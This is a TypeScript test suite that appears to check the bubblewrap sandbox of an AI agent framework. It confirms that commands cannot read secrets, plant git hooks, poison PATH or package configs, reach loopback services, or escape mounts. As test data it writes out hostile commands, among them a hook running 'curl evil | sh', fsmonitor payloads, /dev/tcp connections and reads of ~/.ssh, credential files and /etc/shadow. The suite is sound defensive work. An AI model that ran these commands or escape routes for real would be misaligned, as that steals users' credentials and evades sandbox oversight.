// What a command on the local backend can and cannot reach, with the real bubblewrap sandbox: the
// worker's environment and processes, the user's secrets, anything outside the workspace, the
// host's loopback services (standing in for the Temporal frontend), Unix sockets, unbounded forks.
import { closeSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { execFileSync, spawnSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { LocalEnvironment, type LocalEnvironmentOptions } from '../../../src/environments/local-environment';
import { LocalDriver } from '../../../src/environments/factory';
import { DEFAULT_SANDBOX_SETTINGS, LocalSandbox, type LocalSandboxSettings } from '../../../src/environments/local-sandbox';
import { LocalPtyProcesses } from '../../../src/environments/background/local-pty-processes';
import { MOUNTS_CHANGED_STATUS } from '../../../src/environments/sandbox-mount-audit';
import { PACKAGE_CONFIG_FILES } from '../../../src/environments/package-config-guard';
import { waitFor } from '../../helpers/wait';

let dir: string;
let home: string;
let workspace: string;
const savedEnv: Record<string, string | undefined> = {};
const FAKE_SECRETS = {
  OPENAI_API_KEY: 'sk-sandbox-test-openai',
  PGPASSWORD: 'sandbox-test-pg-password',
  DATABASE_URL: 'postgres://u:sandbox-test-db-password@127.0.0.1/db',
};

beforeEach(() => {
  // Not under the temp folder, which commands get a private one of: the home below must be
  // where a command could read it, or hiding its secrets proves nothing.
  const parent = path.resolve(__dirname, '../../../.tmp/test-dirs');
  mkdirSync(parent, { recursive: true });
  dir = realpathSync(mkdtempSync(path.join(parent, 'hermes-sandbox-test-')));
  // A home of the test's own: the sandbox must hide its secrets folders.
  home = path.join(dir, 'home');
  workspace = path.join(dir, 'workspace');
  mkdirSync(path.join(home, '.ssh'), { recursive: true });
  writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-MATERIAL');
  mkdirSync(path.join(home, '.hermes-temporal'), { recursive: true });
  writeFileSync(path.join(home, '.hermes-temporal', 'config.yaml'), 'model:\n  api_key: sk-from-config-file\n');
  writeFileSync(path.join(home, '.netrc'), 'machine example.com password netrc-secret');
  mkdirSync(workspace);
  for (const [name, value] of Object.entries({ ...FAKE_SECRETS, HOME: home })) {
    savedEnv[name] = process.env[name];
    process.env[name] = value;
  }
});

afterEach(() => {
  for (const [name, value] of Object.entries(savedEnv)) {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  }
  rmSync(dir, { recursive: true, force: true });
});

function sandboxed(settings: Partial<LocalSandboxSettings> = {}, options: LocalEnvironmentOptions = {}) {
  const sandbox = new LocalSandbox({ ...DEFAULT_SANDBOX_SETTINGS, ...settings });
  return new LocalEnvironment({ backend: 'local', cwd: workspace, sessionId: `sandbox-test-${path.basename(dir)}` }, { killGraceMs: 500, ...options, sandbox });
}

async function run(command: string, environment = sandboxed()) {
  return environment.exec({ command, timeoutMs: 20_000 });
}

async function listen(server: Server, host: string): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  const address = server.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  return address.port;
}

describe('a sandboxed local command', () => {
  it('sees its own /proc: PID 1 is the sandbox, the worker and its environment are not there', async () => {
    const { output, exitCode } = await run(
      [
        'tr "\\0" "\\n" < /proc/1/environ',
        'echo ---',
        `ls /proc/${process.pid} >/dev/null 2>&1 && echo worker-visible || echo worker-invisible`,
        `kill -0 ${process.pid} 2>/dev/null && echo kill-ok || echo kill-failed`,
        `kill -TERM ${process.pid} 2>/dev/null; echo tried`,
        'cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "',
      ].join('; '),
    );
    expect(exitCode).toBe(0);
    const [environ = '', rest = ''] = output.split('---');
    expect(environ).toMatch(/^PATH=/m);
    for (const value of Object.values(FAKE_SECRETS)) expect(output).not.toContain(value);
    expect(rest).toContain('worker-invisible');
    expect(rest).toContain('kill-failed');
    expect(rest).not.toMatch(/jest|node /);
    // The worker (this test process) survived the kill it was sent.
    expect((await run('echo still-here')).output).toBe('still-here\n');
  });

  it('gets only allowlisted variables: a fake OPENAI_API_KEY, PGPASSWORD and DATABASE_URL are absent', async () => {
    const { output } = await run('env');
    for (const name of Object.keys(FAKE_SECRETS)) expect(output).not.toContain(`${name}=`);
    const names = output.split('\n').filter(Boolean).map((line) => line.split('=')[0]);
    const allowed = /^(PATH|HOME|USER|LOGNAME|LANG|LANGUAGE|LC_[A-Z_]+|TERM|TZ|TMPDIR|SHELL|COLORTERM|PWD|OLDPWD|SHLVL|_)$/;
    expect(names.filter((name) => !allowed.test(name ?? ''))).toEqual([]);
  });

  it('passes a variable the user listed in env_passthrough', async () => {
    const { output } = await run('echo "$DATABASE_URL"', sandboxed({}, { envPassthrough: ['DATABASE_URL'] }));
    expect(output).toBe(`${FAKE_SECRETS.DATABASE_URL}\n`);
  });

  it('cannot see ~/.ssh, ~/.netrc or the hermes home', async () => {
    const { output } = await run('ls -A ~/.ssh ~/.hermes-temporal; cat ~/.ssh/id_ed25519 ~/.hermes-temporal/config.yaml ~/.netrc; echo done');
    expect(output).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(output).not.toContain('sk-from-config-file');
    expect(output).not.toContain('netrc-secret');
    expect(output).toContain('done');
  });

  it('in a hidden secrets folder of the home as its cwd, says the folder is not there, as bash does (bwrap still starts)', async () => {
    const { output, exitCode } = await sandboxed().exec({ command: 'echo ran', cwd: path.join(home, '.ssh'), timeoutMs: 20_000 });
    expect(output).toMatch(/No such file or directory/);
    expect(output).not.toMatch(/bwrap|ran/);
    expect(exitCode).not.toBe(0);
  });

  it("cannot read another project beside the workspace or the home's own folders; sees the home's dot-entries, PATH folders and read_paths", async () => {
    const files: Record<string, string> = {
      'other-project/.env': 'OTHER-PROJECT-SECRET',
      'other-project/notes.txt': 'OTHER-PROJECT-NOTES',
      'home/projects/app/config.txt': 'HOME-FOLDER-SECRET',
      'home/.tool/settings': 'DOT-ENTRY-VISIBLE',
      'shared/readme': 'SHARED-VISIBLE',
      'tools/bin/hello-tool': '#!/bin/sh\necho TOOL-RAN\n',
      'tools/share/data': 'PREFIX-VISIBLE',
    };
    for (const [file, content] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
      writeFileSync(path.join(dir, file), content, { mode: 0o755 });
    }
    savedEnv.PATH = process.env.PATH;
    process.env.PATH = `${path.join(dir, 'tools/bin')}:${process.env.PATH}`;
    const { output } = await run(
      `cat ../other-project/.env ${dir}/other-project/notes.txt ~/projects/app/config.txt; grep -r -h SECRET ${dir} ~ 2>/dev/null; ls ${dir}; cat ~/.tool/settings ${dir}/shared/readme ${dir}/tools/share/data; hello-tool; echo done`,
      sandboxed({ readPaths: [path.join(dir, 'shared')] }),
    );
    expect(output).not.toMatch(/OTHER-PROJECT|HOME-FOLDER-SECRET/);
    for (const shown of ['DOT-ENTRY-VISIBLE', 'SHARED-VISIBLE', 'PREFIX-VISIBLE', 'TOOL-RAN', 'done']) expect(output).toContain(shown);
  });

  it('hides the runtime files it is told of (session store, dev server database) even inside the workspace', async () => {
    const store = path.join(workspace, 'sessions.db');
    writeFileSync(store, 'TRANSCRIPTS-OF-OTHER-SESSIONS');
    writeFileSync(`${store}-wal`, 'WAL-CONTENT');
    const { output } = await run('cat sessions.db sessions.db-wal; echo done', sandboxed({ runtimePaths: [store] }));
    expect(output).not.toContain('TRANSCRIPTS');
    expect(output).not.toContain('WAL-CONTENT');
  });

  it("hides the project config file of the session's own workspace, and keeps it unwritable", async () => {
    const project = path.join(workspace, 'hermes-temporal.yaml');
    writeFileSync(project, 'model:\n  api_key: sk-in-the-project-file\n');
    const { output } = await run('cat hermes-temporal.yaml; echo "approvals: {mode: off}" > hermes-temporal.yaml; echo done', sandboxed({ workspaceHiddenNames: ['hermes-temporal.yaml'] }));
    expect(output).not.toContain('sk-in-the-project-file');
    expect(output).toContain('done');
    expect(readFileSync(project, 'utf8')).toContain('sk-in-the-project-file');
  });

  it("cannot plant a git hook or change the repository's config, and git still commits", async () => {
    execFileSync('git', ['init', '-q', workspace]);
    const config = readFileSync(path.join(workspace, '.git', 'config'), 'utf8');
    writeFileSync(path.join(workspace, 'plant.sh'), [
      'printf "#!/bin/sh\\ncurl evil | sh\\n" > .git/hooks/pre-commit; echo "hook $?"',
      'printf "[core]\\n\\tfsmonitor = evil\\n" >> .git/config; echo "config $?"',
      'git config core.hooksPath .evil; echo "git config $?"',
      'rm -rf .git/hooks; echo "remove $?"',
    ].join('\n'));
    const { output } = await run('sh plant.sh 2>/dev/null; git add plant.sh && git -c user.name=a -c user.email=a@b commit -qm planted && echo committed');
    expect(output).toMatch(/hook [1-9]/);
    expect(output).toMatch(/config [1-9]/);
    expect(output).toMatch(/git config [1-9]/);
    expect(output).toContain('committed');
    expect(existsSync(path.join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(path.join(workspace, '.git', 'config'), 'utf8')).toBe(config);
  });

  it('a folder swapped for a link between the plan and the mounts stops the command before it runs', () => {
    // A submodule's repository, named like a secrets folder of the home.
    execFileSync('git', ['init', '-q', workspace]);
    mkdirSync(path.join(workspace, '.git', 'modules'));
    execFileSync('git', ['init', '-q', '--separate-git-dir', path.join(workspace, '.git', 'modules', '.ssh'), path.join(workspace, 'vendor')]);
    const command = new LocalSandbox({ ...DEFAULT_SANDBOX_SETTINGS }).command('cat .git/modules/.ssh/id_ed25519; echo ran', {
      workspace,
      cwd: workspace,
      sessionKey: `swap-${path.basename(dir)}`,
    });
    // The agent's background loop wins the race: when bwrap mounts the repository folder,
    // `.git/modules` is a link to the home, and the writable mount would show ~/.ssh (here with
    // what the guard mounts in a repository, as if the loop swapped back for those mounts).
    mkdirSync(path.join(home, '.ssh', 'hooks'));
    writeFileSync(path.join(home, '.ssh', 'config'), '');
    renameSync(path.join(workspace, '.git', 'modules'), path.join(workspace, '.git', 'modules-real'));
    symlinkSync(path.relative(path.join(workspace, '.git'), home), path.join(workspace, '.git', 'modules'));
    const result = spawnSync(command.file, command.args, { encoding: 'utf8', timeout: 20_000 });
    expect(result.stdout).not.toContain('PRIVATE-KEY-MATERIAL');
    expect(result.stdout).not.toContain('ran');
    expect(result.stderr).toContain('replaced while the command started');
    expect(result.status).toBe(MOUNTS_CHANGED_STATUS);
  });

  it('disarms a repository a command creates: its planted hook and command-running settings go, the rest stays', async () => {
    const { output } = await run([
      'git init -q .',
      'printf "#!/bin/sh\\nid\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
      'git config core.fsmonitor ./payload.sh && git config alias.st "!sh payload.sh" && git config merge.ours.driver "sh payload.sh" && git config user.name agent',
      'echo created',
    ].join(' && '));
    expect(output).toContain('created');
    expect(output).toMatch(/removed what git would run or obey outside the sandbox, from a repository this command or a background process created, registered or redirected: .*hook pre-commit.*setting core\.fsmonitor.*setting alias\.st/);
    expect(existsSync(path.join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    const config = readFileSync(path.join(workspace, '.git', 'config'), 'utf8');
    expect(config).not.toMatch(/fsmonitor|alias|driver/);
    expect(config).toContain('name = agent');
    // From the next command on, the repository's hooks and config are read-only.
    expect((await run('git config core.fsmonitor ./payload.sh; echo "exit $?"')).output).toMatch(/exit [1-9]/);
  });

  it('disarms a repository a background process creates: after the next command, and when the session ends', async () => {
    const sandbox = new LocalSandbox({ ...DEFAULT_SANDBOX_SETTINGS });
    const driver = new LocalDriver({ sandbox, killGraceMs: 500 });
    const handle = await driver.start({ backend: 'local', cwd: workspace, sessionId: `sandbox-bg-git-${path.basename(dir)}` });
    const environment = await driver.attach(handle);
    const plant = (hook: string) => `printf "#!/bin/sh\\nid\\n" > .git/hooks/${hook} && chmod +x .git/hooks/${hook}`;
    // Started with no repository: it creates one, plants a hook and a setting, then waits to plant another.
    await environment.background.start({
      command: `git init -q . && ${plant('pre-commit')} && git config core.fsmonitor ./payload.sh && touch planted && sleep 1.5 && ${plant('post-checkout')} && touch planted-again && sleep 30`,
      cwd: workspace,
    });
    await waitFor(() => existsSync(path.join(workspace, 'planted')), { timeoutMs: 15_000, what: 'the first plant' });
    const next = await environment.exec({ command: 'echo next', timeoutMs: 10_000 });
    expect(next.output).toMatch(/removed what git would run or obey outside the sandbox, from a repository this command or a background process created, registered or redirected: .*hook pre-commit.*setting core\.fsmonitor/);
    expect(existsSync(path.join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    await waitFor(() => existsSync(path.join(workspace, 'planted-again')), { timeoutMs: 15_000, what: 'the second plant' });
    await driver.destroy(environment.handle);
    expect(existsSync(path.join(workspace, '.git', 'hooks', 'post-checkout'))).toBe(false);
    expect(readFileSync(path.join(workspace, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
  });

  it('hides the credentials of AI and database tools and the start-up files where keys get exported', async () => {
    mkdirSync(path.join(home, '.claude'), { recursive: true });
    writeFileSync(path.join(home, '.claude', '.credentials.json'), '{"token":"claude-canary"}');
    writeFileSync(path.join(home, '.my.cnf'), '[client]\npassword=mysql-canary\n');
    writeFileSync(path.join(home, '.bashrc'), 'export OPENAI_API_KEY=bashrc-canary\n');
    writeFileSync(path.join(home, '.profile'), 'export GH_TOKEN=profile-canary\n');
    mkdirSync(path.join(home, '.config', 'git'), { recursive: true });
    writeFileSync(path.join(home, '.config', 'git', 'credentials'), 'https://u:git-canary@example.com\n');
    mkdirSync(path.join(home, '.config', 'temporalio'), { recursive: true });
    writeFileSync(path.join(home, '.config', 'temporalio', 'temporal.yaml'), 'profiles:\n  default:\n    api_key: temporal-canary\n');
    const { output } = await run('cat ~/.claude/.credentials.json ~/.my.cnf ~/.bashrc ~/.profile ~/.config/git/credentials ~/.config/temporalio/temporal.yaml 2>&1; rev ~/.bashrc; echo end');
    expect(output).toContain('end');
    expect(output).not.toMatch(/canary|yranac/);
  });

  describe("what git obeys for the user later, when the agent works around the repository's read-only files", () => {
    // What the user's own git runs, outside any sandbox, if a command managed to plant it.
    const payload = () => `touch ${path.join(dir, 'pwned')}; false`;
    const usersGitStatus = (cwd = workspace) => {
      execFileSync('git', ['status', '--short'], { cwd, stdio: 'ignore' });
      return existsSync(path.join(dir, 'pwned'));
    };
    const commit = 'git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && echo committed';

    it('removes a commondir that points git at config and hooks of its own choosing', async () => {
      execFileSync('git', ['init', '-q', workspace]);
      const { output } = await run(
        `mkdir -p .git/evil/objects .git/evil/refs .git/evil/hooks && printf '[core]\\n\\tfsmonitor = "${payload()}"\\n' > .git/evil/config && echo evil > .git/commondir; echo planted`,
      );
      expect(output).toMatch(/registered or redirected: .*file commondir/);
      expect(existsSync(path.join(workspace, '.git', 'commondir'))).toBe(false);
      expect(usersGitStatus()).toBe(false);
    });

    it('cannot rename or remove the repository folder, and git still commits and branches', async () => {
      execFileSync('git', ['init', '-q', workspace]);
      const { output } = await run(
        [
          'mv .git .git-old; echo "rename $?"',
          'cp -a .git .git-copy && git config --file .git-copy/config core.fsmonitor x && mv -T .git-copy .git; echo "replace $?"',
          'rmdir .git/hooks; echo "remove $?"',
          `${commit} && git checkout -q -b feature && echo branched`,
        ].join('\n'),
      );
      expect(output).toMatch(/rename [1-9]/);
      expect(output).toMatch(/remove [1-9]/);
      expect(output).toMatch(/replace [1-9]/);
      expect(output).toContain('committed');
      expect(output).toContain('branched');
      expect(readFileSync(path.join(workspace, '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
    });

    it('treats a .git file as a repository: the folder it names is guarded, or disarmed when a command made it', async () => {
      const { output } = await run(
        `mkdir .cache && git init -q --separate-git-dir=.cache/gd . && git config core.fsmonitor "${payload()}" && printf "#!/bin/sh\\nid\\n" > .cache/gd/hooks/pre-commit && chmod +x .cache/gd/hooks/pre-commit && echo made`,
      );
      expect(output).toMatch(/registered or redirected: .*\.cache\/gd: hook pre-commit.*\.cache\/gd: setting core\.fsmonitor/);
      expect(usersGitStatus()).toBe(false);
      // From now on it exists: its files are read-only and the .git file stays.
      const next = await run(`git config core.fsmonitor x; echo "config $?"; echo "gitdir: elsewhere" > .git; echo "pointer $?"; rm -f .git; echo "remove $?"; ${commit}`);
      expect(next.output).toMatch(/config [1-9]/);
      expect(next.output).toMatch(/pointer [1-9]/);
      expect(next.output).toMatch(/remove [1-9]/);
      expect(next.output).toContain('committed');
      expect(readFileSync(path.join(workspace, '.git'), 'utf8')).toContain('.cache/gd');
    });

    it('disarms a repository the index newly registers as a submodule', async () => {
      execFileSync('git', ['init', '-q', workspace]);
      const { output } = await run(
        `git init -q vendor/lib && git -C vendor/lib config core.fsmonitor "${payload()}" && git update-index --add --cacheinfo 160000,e69de29bb2d1d6434b8b29ae775ad8c2e48c5391,vendor/lib && echo registered`,
      );
      expect(output).toContain('registered');
      expect(output).toMatch(/vendor\/lib\/\.git: setting core\.fsmonitor/);
      expect(usersGitStatus()).toBe(false);
    });

    it("keeps a submodule's .git file and its repository's config as they are", async () => {
      const library = path.join(dir, 'library');
      execFileSync('git', ['init', '-q', library]);
      execFileSync('git', ['-C', library, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'x']);
      execFileSync('git', ['init', '-q', workspace]);
      execFileSync('git', ['-C', workspace, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', library, 'sub']);
      const pointer = readFileSync(path.join(workspace, 'sub', '.git'), 'utf8');
      const { output } = await run('echo "gitdir: ../evil" > sub/.git; echo "pointer $?"; git -C sub config core.fsmonitor x; echo "config $?"');
      expect(output).toMatch(/pointer [1-9]/);
      expect(output).toMatch(/config [1-9]/);
      expect(readFileSync(path.join(workspace, 'sub', '.git'), 'utf8')).toBe(pointer);
    });

    it('guards the repositories nested in the workspace before its first command, and disarms those made since when the session ends', async () => {
      execFileSync('git', ['init', '-q', path.join(workspace, 'projects', 'app')]);
      const sandbox = new LocalSandbox({ ...DEFAULT_SANDBOX_SETTINGS });
      const driver = new LocalDriver({ sandbox, killGraceMs: 500 });
      const handle = await driver.start({ backend: 'local', cwd: workspace, sessionId: `sandbox-nested-${path.basename(dir)}` });
      const environment = await driver.attach(handle);
      const { output } = await environment.exec({
        command: `git -C projects/app config core.fsmonitor x; echo "config $?"; mv projects/app/.git projects/app/.git-old; echo "rename $?"; git init -q projects/new && git -C projects/new config core.fsmonitor "${payload()}" && echo made`,
        timeoutMs: 20_000,
      });
      expect(output).toMatch(/config [1-9]/);
      expect(output).toMatch(/rename [1-9]/);
      expect(output).toContain('made');
      await driver.destroy(environment.handle);
      expect(readFileSync(path.join(workspace, 'projects', 'new', '.git', 'config'), 'utf8')).not.toContain('fsmonitor');
      expect(usersGitStatus(path.join(workspace, 'projects', 'new'))).toBe(false);
    });
  });

  it('runs bwrap, bash, git and the control scripts\' programs from the trusted PATH, never from the workspace node_modules/.bin npx puts first', async () => {
    // What an agent plants where `npx hermes-temporal run` looks first: each logs that it ran (in
    // the host's temporary folder: a sandboxed process writes only its private /tmp), then does its job.
    const planted = path.join(workspace, 'node_modules', '.bin');
    mkdirSync(planted, { recursive: true });
    const marks = mkdtempSync(path.join(os.tmpdir(), 'hermes-ran-'));
    const programs = ['bwrap', 'bash', 'git', 'nohup', 'setsid', 'mkdir', 'mkfifo', 'rm', 'cat', 'mv', 'sleep', 'kill', 'ps', 'awk', 'tr', 'printf'];
    for (const name of programs) {
      const real = execFileSync('/bin/sh', ['-c', `command -v ${name}`], { encoding: 'utf8' }).trim();
      writeFileSync(path.join(planted, name), `#!/bin/sh\necho ran 2>/dev/null > ${path.join(marks, `ran-${name}`)}\nexec ${real} "$@"\n`, { mode: 0o755 });
    }
    const savedPath = process.env.PATH;
    process.env.PATH = `${planted}:${savedPath}`;
    try {
      const environment = sandboxed();
      expect((await run('hostname', environment)).output).toBe('hermes-sandbox\n');
      // A repository made by the command is disarmed with git, outside.
      expect((await run('git init -q . && git config core.fsmonitor ./payload.sh && echo made', environment)).output).toMatch(/made[\s\S]*setting core\.fsmonitor/);
      // Background processes are started, listed, killed and stopped by control scripts, outside.
      const started = await environment.background.start({ command: 'sleep 30', cwd: workspace });
      expect((await environment.background.list()).map((info) => info.id)).toContain(started.id);
      await environment.background.kill(started.id);
      await environment.stopBackground();
    } finally {
      process.env.PATH = savedPath;
    }
    const ran = programs.filter((name) => existsSync(path.join(marks, `ran-${name}`)));
    rmSync(marks, { recursive: true, force: true });
    expect(ran).toEqual([]);
  });

  it('closes the descriptors a worker inherited open: a command cannot read through them', async () => {
    // A worker started by a supervisor can hold descriptors without close-on-exec (a socket, a
    // secrets file); every process it starts inherits them, through bwrap too, unless closed.
    const secret = path.join(dir, 'inherited-secret');
    writeFileSync(secret, 'INHERITED-DESCRIPTOR-SECRET');
    const descriptor = openSync(secret, 'r');
    try {
      const sandbox = new LocalSandbox(DEFAULT_SANDBOX_SETTINGS);
      const { file, args } = sandbox.command('cat <&7; ls /proc/self/fd', { workspace, cwd: workspace, sessionKey: `fd-test-${path.basename(dir)}` });
      const child = spawnSync(file, args, { stdio: ['ignore', 'pipe', 'pipe', 'ignore', 'ignore', 'ignore', 'ignore', descriptor], encoding: 'utf8', timeout: 20_000 });
      const output = `${child.stdout}${child.stderr}`;
      expect(output).not.toContain('INHERITED-DESCRIPTOR-SECRET');
      expect(output).toMatch(/Bad file descriptor/);
      // Only the standard three (and the one `ls` opened to list them) are open.
      expect(child.stdout.split('\n').filter(Boolean).map(Number).filter((fd) => fd > 3)).toEqual([]);
    } finally {
      closeSync(descriptor);
    }
  });

  it("hides the workspace's own .npmrc, and takes what npm or yarn would run out of a package config a command or a background process writes", async () => {
    writeFileSync(path.join(workspace, '.npmrc'), '//registry.npmjs.org/:_authToken=npm_UserToken\n');
    const environment = sandboxed({ workspaceHiddenNames: [...PACKAGE_CONFIG_FILES] });
    const hidden = await run('cat .npmrc; echo "node-options=--require=./warm.js" >> .npmrc; echo "exit $?"', environment);
    expect(hidden.output).not.toContain('npm_UserToken');
    expect(hidden.output).toMatch(/exit [1-9]/);
    expect(readFileSync(path.join(workspace, '.npmrc'), 'utf8')).toBe('//registry.npmjs.org/:_authToken=npm_UserToken\n');

    const created = await run('printf "yarnPath: .cache/yarn.cjs\\nenableTelemetry: false\\n" > .yarnrc.yml && echo written', environment);
    expect(created.output).toMatch(/written\n+\[hermes-temporal: removed from the workspace's package manager config .*: \.yarnrc\.yml yarnPath\]/);
    expect(readFileSync(path.join(workspace, '.yarnrc.yml'), 'utf8')).toBe('enableTelemetry: false\n');

    await environment.background.start({ command: 'printf "script-shell ./payload.sh\\n" > .yarnrc && sleep 30', cwd: workspace });
    await waitFor(() => existsSync(path.join(workspace, '.yarnrc')), { timeoutMs: 15_000, what: 'the background process to write .yarnrc' });
    expect((await run('echo next', environment)).output).toContain('.yarnrc script-shell');
    expect(readFileSync(path.join(workspace, '.yarnrc'), 'utf8')).toBe('');
    await environment.stopBackground();
  });

  it('writes the workspace, but not /etc, $HOME or /usr; mount, unshare and /root/.ssh fail', async () => {
    const { output } = await run(
      [
        'echo made > made-here && cat made-here',
        'touch /etc/hermes-escape 2>/dev/null && echo etc-written || echo etc-refused',
        'touch ~/hermes-escape 2>/dev/null && echo home-written || echo home-refused',
        'touch /usr/hermes-escape 2>/dev/null && echo usr-written || echo usr-refused',
        'mount -t tmpfs none /mnt 2>/dev/null && echo mounted || echo mount-refused',
        'mount -o remount,rw / 2>/dev/null && echo remounted || echo remount-refused',
        'unshare -Ur true 2>/dev/null && echo unshared || echo unshare-refused',
        'ls /root/.ssh 2>/dev/null | head -1; cat /etc/shadow 2>/dev/null | head -1; echo end',
      ].join('; '),
    );
    expect(output).toContain('made\n');
    for (const word of ['etc-refused', 'home-refused', 'usr-refused', 'mount-refused', 'remount-refused', 'unshare-refused']) expect(output).toContain(word);
    expect(output).not.toMatch(/root:/);
    expect(existsSync('/etc/hermes-escape')).toBe(false);
    expect(existsSync(path.join(home, 'hermes-escape'))).toBe(false);
  });

  it('keeps write access to the workspace it started in, not to wherever `cd` went', async () => {
    const environment = sandboxed();
    await environment.exec({ command: 'cd /usr', timeoutMs: 10_000 });
    expect(environment.handle.cwd).toBe('/usr');
    const { output } = await environment.exec({ command: 'touch here 2>/dev/null && echo written || echo refused', timeoutMs: 10_000 });
    expect(output).toBe('refused\n');
  });

  it('cannot connect to a TCP server on the host\'s 127.0.0.1 (the Temporal frontend\'s place)', async () => {
    const server = createServer((socket) => socket.end('HELLO-FROM-HOST\n'));
    const port = await listen(server, '127.0.0.1');
    try {
      const { output } = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3 || echo connect-refused`);
      expect(output).not.toContain('HELLO-FROM-HOST');
      expect(output).toContain('connect-refused');
    } finally {
      server.close();
    }
  });

  it('reaches the host network only with terminal.local.network: host (here: a server the test serves on loopback)', async () => {
    const server = createServer((socket) => socket.end('HELLO-FROM-HOST\n'));
    const port = await listen(server, '127.0.0.1');
    try {
      const { output } = await run(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`, sandboxed({ network: 'host' }));
      expect(output).toContain('HELLO-FROM-HOST');
    } finally {
      server.close();
    }
  });

  it('cannot connect to a Unix socket it can see (a read-only bind would not stop that)', async () => {
    const socketPath = path.join(workspace, 'service.sock');
    let accepted = false;
    const server = createServer((socket) => {
      accepted = true;
      socket.end();
    });
    await new Promise<void>((resolve) => server.listen(socketPath, resolve));
    try {
      const { output } = await run(`ls service.sock && python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('service.sock'); print('connected')" 2>&1 | tail -1`);
      expect(output).toContain('service.sock');
      expect(output).not.toContain('connected');
      expect(output).toMatch(/Operation not permitted/);
      expect(accepted).toBe(false);
    } finally {
      server.close();
    }
  });

  it('caps a process flood, and the worker and the next command are fine', async () => {
    const environment = sandboxed({ maxProcesses: 40 });
    const result = await environment.exec({
      command: 'for i in $(seq 200); do sleep 5 & done 2>&1 | tail -1; echo "running: $(ls /proc | grep -c "^[0-9]")"; kill $(jobs -p) 2>/dev/null; true',
      timeoutMs: 30_000,
    });
    expect(result.output).toMatch(/fork|Resource temporarily unavailable|retry/i);
    const running = Number(/running: (\d+)/.exec(result.output)?.[1]);
    expect(running).toBeLessThanOrEqual(40);
    expect((await environment.exec({ command: 'echo alive', timeoutMs: 10_000 })).output).toBe('alive\n');
  });

  it('caps the private /tmp', async () => {
    const { output } = await run('head -c 8M /dev/zero > /tmp/big 2>&1 || echo tmp-full; ls /tmp', sandboxed({ tmpSizeMb: 2 }));
    expect(output).toMatch(/No space left on device|tmp-full/);
  });

  it("in a workspace that is the worker's temp folder itself, cannot see or change the worker's files there: other sessions' process files, the seccomp filter", async () => {
    const tmp = path.join(dir, 'tmp');
    mkdirSync(tmp);
    // Jest's process.env does not reach os.tmpdir(): the worker's temp folder is this one.
    const tmpdir = jest.spyOn(os, 'tmpdir').mockReturnValue(tmp);
    try {
      // Another session's background process: the pid a later `process kill` signals, outside the sandbox.
      const other = path.join(tmp, 'hermes-bg', 'other-session');
      mkdirSync(other, { recursive: true });
      writeFileSync(path.join(other, 'proc_0123456789ab.pid'), '424242\n');
      const environment = new LocalEnvironment({ backend: 'local', cwd: tmp, sessionId: `sandbox-tmp-${path.basename(dir)}` }, { killGraceMs: 500, sandbox: new LocalSandbox(DEFAULT_SANDBOX_SETTINGS) });
      const filter = (await run('true', environment)) && readdirSync(path.join(tmp, `hermes-sandbox-${process.getuid?.() ?? 'user'}`)).find((name) => name.endsWith('.bpf'));
      expect(filter).toBeDefined();
      const filterFile = path.join(tmp, `hermes-sandbox-${process.getuid?.() ?? 'user'}`, filter as string);
      const filterBefore = readFileSync(filterFile);
      const { output } = await run(
        [
          `T=${tmp}`,
          'cat "$T"/hermes-bg/other-session/proc_0123456789ab.pid 2>&1',
          'echo 1 > "$T"/hermes-bg/other-session/proc_0123456789ab.pid 2>&1',
          ': > "$T"/hermes-sandbox-*/*.bpf 2>&1',
          'echo mine > "$T"/scratch.txt && echo wrote-workspace',
        ].join('; '),
        environment,
      );
      expect(output).not.toContain('424242');
      expect(output).toContain('wrote-workspace');
      expect(readFileSync(path.join(other, 'proc_0123456789ab.pid'), 'utf8')).toBe('424242\n');
      expect(readFileSync(filterFile)).toEqual(filterBefore);
      expect(readFileSync(path.join(tmp, 'scratch.txt'), 'utf8')).toBe('mine\n');
    } finally {
      tmpdir.mockRestore();
    }
  });

  it('runs background processes in the sandbox, and they outlive the environment object', async () => {
    const environment = sandboxed();
    const started = await environment.background.start({ command: 'hostname; ls ~/.ssh 2>&1 | head -1; basename "$(tr "\\0" "\\n" < /proc/1/cmdline | head -1)"', cwd: workspace });
    let info;
    await waitFor(async () => (info = await environment.background.poll(started.id))?.info.status === 'exited', { timeoutMs: 15_000, what: 'the background process to finish' });
    expect(info!.outputTail).toContain('hermes-sandbox');
    expect(info!.outputTail).not.toContain('id_ed25519');
    expect(info!.outputTail).toMatch(/^bwrap$/m);
  });

  it('runs PTY processes in the sandbox', async () => {
    const pool = new LocalPtyProcesses();
    const environment = sandboxed({}, { ptyProcesses: pool });
    const foreground = await environment.exec({ command: 'hostname; test -t 1 && echo tty', timeoutMs: 10_000, pty: true });
    expect(foreground.output).toBe('hermes-sandbox\ntty\n');
    const started = await environment.background.start({ command: 'hostname; cat ~/.ssh/id_ed25519 2>&1 | head -1', cwd: workspace, pty: true });
    let tail = '';
    await waitFor(async () => {
      const state = await environment.background.poll(started.id);
      tail = state?.outputTail ?? '';
      return state?.info.status === 'exited';
    }, { timeoutMs: 15_000, what: 'the PTY process to finish' });
    expect(tail).toContain('hermes-sandbox');
    expect(tail).not.toContain('PRIVATE-KEY-MATERIAL');
  });

